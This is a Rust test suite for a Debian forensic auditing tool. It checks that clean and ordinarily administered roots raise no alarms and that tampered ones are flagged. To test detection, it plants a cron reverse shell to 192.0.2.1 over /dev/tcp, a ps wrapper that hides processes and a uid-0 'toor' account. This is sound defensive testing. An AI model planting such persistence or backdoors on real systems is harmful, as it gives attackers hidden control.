//! Whole Debian roots, straight from the archive: quiet when clean, quiet after an administrator's
//! ordinary changes, loud when its tools are replaced, and the same live as offline.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)] // tests
#![cfg_attr(not(feature = "real-roots"), allow(dead_code, unused_imports))]

mod support;

use std::path::{Path, PathBuf};
use std::process::Command;

use coroner_core::{Finding, Level, Report, Severity};
use support::{append, audit, copy_of, copy_program, lab, plant, report, shown, status};

const RELEASES: [&str; 3] = ["bullseye", "bookworm", "trixie"];

fn loud(report: &Report) -> Vec<String> {
    let loud: Vec<&Finding> =
        report.findings.iter().filter(|finding| finding.severity > Severity::Info).collect();
    shown(&loud)
}

fn assert_clean(report: &Report, what: &str) {
    let nothing: Vec<String> = Vec::new();
    assert_eq!(loud(report), nothing, "{what}");
    let gaps: Vec<_> = report.gaps.iter().filter(|gap| gap.matters).collect();
    assert!(gaps.is_empty(), "{what}: {gaps:?}");
    assert_eq!(report.verdict.level, Level::Clean, "{what}");
}

#[test]
#[cfg_attr(not(feature = "real-roots"), ignore = "needs whole roots: run tests/run")]
fn a_root_straight_from_the_archive_is_clean() {
    for release in RELEASES {
        let (report, status) = audit(&lab().join(release), &[]);
        assert_clean(&report, release);
        assert_eq!(status, 0);
        let packages = report.items.iter().filter(|item| item.kind == "package").count();
        assert!(packages > 100, "{release}: {packages} packages");
    }
}

/// What an administrator does to a server in its first year.
fn administer(root: &Path) {
    own_service(root);
    scheduled_work(root);
    edited_conffiles(root);
    people(root);
    network_and_guests(root);
}

fn own_service(root: &Path) {
    plant(root, "/opt/shop/bin/shop", "#!/usr/bin/python3\nprint('serving')\n", 0o755);
    plant(root, "/usr/local/bin/deploy", "#!/bin/sh\nset -e\nsystemctl restart shop\n", 0o755);
    plant(root, "/usr/local/sbin/exporter", b"\x7fELF\x02\x01\x01\x00".repeat(64), 0o755);
    let unit = "[Unit]\nDescription=Shop\nAfter=network-online.target\n[Service]\nUser=www-data\n\
                ExecStart=/opt/shop/bin/shop --port 8080\nRestart=on-failure\n\
                [Install]\nWantedBy=multi-user.target\n";
    plant(root, "/etc/systemd/system/shop.service", unit, 0o644);
    let wants = root.join("etc/systemd/system/multi-user.target.wants/shop.service");
    std::os::unix::fs::symlink("/etc/systemd/system/shop.service", wants).unwrap();
    let override_conf = "[Service]\nLimitNOFILE=65536\n";
    plant(root, "/etc/systemd/system/cron.service.d/limits.conf", override_conf, 0o644);
    let rc = "#!/bin/sh -e\n/sbin/sysctl -q -w net.core.somaxconn=4096\nexit 0\n";
    plant(root, "/etc/rc.local", rc, 0o755);
}

fn scheduled_work(root: &Path) {
    let backup = "#!/bin/sh\ntar -czf /var/backups/shop-$(date +%F).tgz /opt/shop\n\
                  find /var/backups -name 'shop-*' -mtime +14 -delete\n";
    plant(root, "/usr/local/bin/backup", backup, 0o755);
    let table = "MAILTO=root\n30 2 * * * root /usr/local/bin/backup >/dev/null 2>&1\n";
    plant(root, "/etc/cron.d/backup", table, 0o644);
    plant(root, "/etc/cron.daily/cleanup", "#!/bin/sh\nfind /tmp -mtime +7 -delete\n", 0o755);
    let own =
        "# m h dom mon dow command\n*/5 * * * * curl -fsS https://192.0.2.10/ping >/dev/null\n";
    plant(root, "/var/spool/cron/crontabs/root", own, 0o600);
    append(root, "/etc/bash.bashrc", "alias ll='ls -l'\nexport EDITOR=vi\n");
}

fn edited_conffiles(root: &Path) {
    append(root, "/etc/ssh/sshd_config", "PasswordAuthentication no\nPort 2222\n");
    append(root, "/etc/logrotate.conf", "compress\n");
    append(root, "/etc/crontab", "17 3 * * * root test -x /usr/local/bin/deploy && nice deploy\n");
    append(root, "/etc/login.defs", "UMASK 027\n");
}

fn people(root: &Path) {
    append(root, "/etc/passwd", "anna:x:1000:1000:Anna,,,:/home/anna:/bin/bash\n");
    append(root, "/etc/group", "anna:x:1000:\n");
    let hash = "$6$rounds=5000$f4Yz0XQhR2bLx9Tn$4nX1yPq0vVh3pV0sO2y0x6n4Q9WmYzTqQyq5kq8Zb3c1j0QkZ1t5vZ2o7oXoWl3pQeJmH1yq4sR7cU0bT2nS1/";
    append(root, "/etc/shadow", &format!("anna:{hash}:19700:0:99999:7:::\n"));
    let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBlY0mYbZ0o7qg1h7r8d9s0a1b2c3d4e5f6g7h8i9j0k anna@laptop\n";
    plant(root, "/home/anna/.ssh/authorized_keys", key, 0o600);
    plant(root, "/root/.ssh/authorized_keys", key, 0o600);
    owned_by(root, &["/home/anna", "/home/anna/.ssh", "/home/anna/.ssh/authorized_keys"], 1000);
    let drop_in = "anna ALL=(root) NOPASSWD: /usr/bin/systemctl restart shop\n";
    plant(root, "/etc/sudoers.d/shop", drop_in, 0o440);
}

fn owned_by(root: &Path, paths: &[&str], id: u32) {
    for path in paths {
        let at = root.join(path.trim_start_matches('/'));
        std::os::unix::fs::lchown(at, Some(id), Some(id)).unwrap();
    }
}

fn network_and_guests(root: &Path) {
    let rules = "*filter\n:INPUT DROP [0:0]\n:FORWARD DROP [0:0]\n:OUTPUT ACCEPT [0:0]\n\
                 -A INPUT -i lo -j ACCEPT\n-A INPUT -m conntrack --ctstate RELATED,ESTABLISHED -j ACCEPT\n\
                 -A INPUT -p tcp --dport 2222 -s 198.51.100.0/24 -j ACCEPT\n\
                 -A INPUT -p tcp -m multiport --dports 80,443 -j ACCEPT\nCOMMIT\n";
    plant(root, "/etc/iptables/rules.v4", rules, 0o640);
    let guest = "<domain type='kvm'>\n <name>db1</name>\n <memory>1048576</memory>\n <os><type>hvm</type></os>\n\
                 <devices>\n <emulator>/usr/bin/qemu-system-x86_64</emulator>\n\
                 <graphics type='vnc' port='5901' autoport='no' listen='127.0.0.1' passwd='Zt5k9WqA'>\n\
                 <listen type='address' address='127.0.0.1'/>\n </graphics>\n </devices>\n</domain>\n";
    plant(root, "/etc/libvirt/qemu/db1.xml", guest, 0o600);
}

#[test]
#[cfg_attr(not(feature = "real-roots"), ignore = "needs whole roots: run tests/run")]
fn an_administrators_ordinary_changes_are_quiet() {
    for release in RELEASES {
        let root = copy_of(&lab().join(release));
        administer(root.path());
        let (report, _) = audit(root.path(), &[]);
        assert_clean(&report, release);
    }
}

fn about<'a>(report: &'a Report, path: &str) -> Vec<&'a Finding> {
    let certain = report.findings.iter().filter(|finding| {
        finding.severity >= Severity::High && finding.path.as_ref().is_some_and(|p| *p == path)
    });
    certain.collect()
}

#[test]
#[cfg_attr(not(feature = "real-roots"), ignore = "needs whole roots: run tests/run")]
fn replaced_tools_are_named_with_the_expected_and_the_actual_hash() {
    let root = copy_of(&lab().join("bookworm"));
    let other = std::fs::read(root.path().join("usr/bin/true")).unwrap();
    plant(
        root.path(),
        "/usr/bin/ps",
        "#!/bin/sh\n/usr/bin/ps.original \"$@\" | grep -v evil\n",
        0o755,
    );
    plant(root.path(), "/usr/bin/lsof", &other, 0o755);
    std::fs::copy(root.path().join("usr/bin/ss"), root.path().join("usr/bin/ss.original")).unwrap();
    plant(root.path(), "/usr/bin/ss", [&other[..], b"appended"].concat(), 0o755);
    for scope in ["quick", "standard"] {
        let (report, status) = audit(root.path(), &["--scope", scope]);
        assert_eq!((report.verdict.level, status), (Level::Compromised, 2));
        for path in ["/usr/bin/ps", "/usr/bin/lsof", "/usr/bin/ss"] {
            let found = about(&report, path);
            assert!(!found.is_empty(), "{path} in {scope}: {:?}", loud(&report));
            let evidence: Vec<_> = found.iter().flat_map(|f| &f.evidence).collect();
            let named = |name: &str| {
                evidence.iter().any(|e| e.name == name && e.value.as_bytes().len() > 32)
            };
            assert!(named("expected") && named("actual"), "{path}: {evidence:?}");
        }
    }
}

/// The packs of this tree.
fn shipped() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../baselines")
}

/// Audits a root as the live `/` of a mount and process namespace of its own.
fn audit_inside(root: &Path, more: &[&str]) -> Report {
    copy_program(Path::new(env!("CARGO_BIN_EXE_coroner")), &root.join("run/coroner"));
    let packs = root.join("run/baselines");
    std::fs::create_dir(&packs).unwrap();
    for release in ["11", "12", "13"] {
        let name = format!("debian-{release}.pack");
        std::fs::copy(shipped().join(&name), packs.join(&name)).unwrap();
    }
    let script = "mount -t proc proc \"$0/proc\" && mount -t sysfs sys \"$0/sys\" && \
                  exec chroot \"$0\" /run/coroner audit --format json \"$@\"";
    let output = Command::new("unshare")
        .args(["--mount", "--pid", "--fork", "sh", "-c", script])
        .arg(root)
        .args(more)
        .output()
        .unwrap();
    std::fs::remove_file(root.join("run/coroner")).unwrap();
    std::fs::remove_dir_all(packs).unwrap();
    assert!(status(&output) < 4, "{output:?}");
    report(&output)
}

#[test]
#[cfg_attr(not(feature = "real-roots"), ignore = "needs whole roots: run tests/run")]
fn a_root_gives_the_same_file_findings_live_and_offline() {
    let root = copy_of(&lab().join("bookworm"));
    plant(root.path(), "/usr/bin/ps", "#!/bin/sh\nexit 0\n", 0o755);
    let shell = "* * * * * root bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n";
    plant(root.path(), "/etc/cron.d/freedesktop", shell, 0o644);
    append(root.path(), "/etc/passwd", "toor:x:0:0::/root:/bin/bash\n");
    let plugins = ["--only", "cron,startup,accounts,binaries,launch"];
    // From outside the tree's packs, which stand beside the binary inside.
    let packs = shipped().display().to_string();
    let (offline, _) = audit(root.path(), &[&plugins[..], &["--baseline", &packs]].concat());
    let live = audit_inside(root.path(), &plugins);
    let of_files = |report: &Report| {
        let of_kernel = |f: &&Finding| {
            f.path.as_ref().is_some_and(|p| p.is_under("/proc") || p.is_under("/sys"))
        };
        let files: Vec<&Finding> = report.findings.iter().filter(|f| !of_kernel(f)).collect();
        shown(&files)
    };
    assert!(of_files(&offline).len() >= 3);
    assert_eq!(of_files(&live), of_files(&offline));
    assert_eq!(live.verdict.level, Level::Compromised);
}
